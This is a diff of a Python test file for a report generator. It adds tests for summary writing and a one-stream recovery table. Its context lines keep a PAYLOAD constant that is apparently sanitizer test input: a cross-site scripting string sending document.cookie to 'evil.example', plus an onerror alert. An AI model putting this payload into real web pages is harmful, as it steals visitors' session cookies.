@@ -6,13 +6,16 @@ import shutil
 import subprocess
 import sys
 
+import pytest
 import yaml
 from helpers.page import Page
 from helpers.synthetic import measure_fully, pages, write
 
-from opdcl.results import plots, report
+from opdcl.results import plots, report, stats
 from opdcl.results.samples import pick_samples
 from opdcl.results.scores import load_suites
+from opdcl.results.summary import summarise
+from opdcl.results.tables import MISSING
 from opdcl.sanitize import harmless
 
 PAYLOAD = '<script>fetch("https://evil.example/?" + document.cookie)</script><img src=x onerror=alert(1)>'
@@ -45,7 +48,7 @@ def test_html_shows_verdict_scores_plots_cost_and_how_to_repeat_it(trained):
     page = Page(pages(trained)["report.html"])
     assert page.tags.count("svg") == 3
     for expected in (
-        report.summarise(trained)["verdict"].replace(
+        summarise(trained)["verdict"].replace(
             " %", "\N{NO-BREAK SPACE}%"
         ),  # no line starts with a percent sign
         "80.0 %",
@@ -224,3 +227,24 @@ def test_importing_the_report_loads_neither_a_model_library_nor_a_plotting_one()
     code = f"import sys, opdcl.results.report; print([m for m in {heavy} if m in sys.modules])"
     found = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
     assert found.stdout.strip() == "[]"
+
+
+def test_a_given_summary_is_the_one_that_is_written(run):
+    pages_without = pages(run)
+    summary = summarise(run)
+    stats._resamples.cache_clear()
+    report.write(run, summary)
+    assert stats._resamples.cache_info().misses == 0
+    assert {name: (run.path / name).read_text(encoding="utf-8") for name in pages_without} == pages_without
+    report.write(run, summary | {"verdict": "Computed elsewhere."})
+    assert "Computed elsewhere." in (run.path / "report.md").read_text()
+
+
+@pytest.mark.parametrize(
+    ("stream", "cells"), [("general", ["0.500", MISSING]), ("domain", [MISSING, "0.500"])]
+)
+def test_a_recovery_with_one_stream_has_a_report(run, stream, cells):
+    rows = [{"step": s, "stream": stream, "loss": 1.0, "kl": 1.0} for s in range(1, 9)]
+    check = {"step": 8, "validation": {f"{stream}_kl": 0.5, "best": True}}
+    write(run.stage(2, "recover").metrics, [*rows, check])
+    assert f"| 8 | {' | '.join(cells)} | kept |" in pages(run)["report.md"]
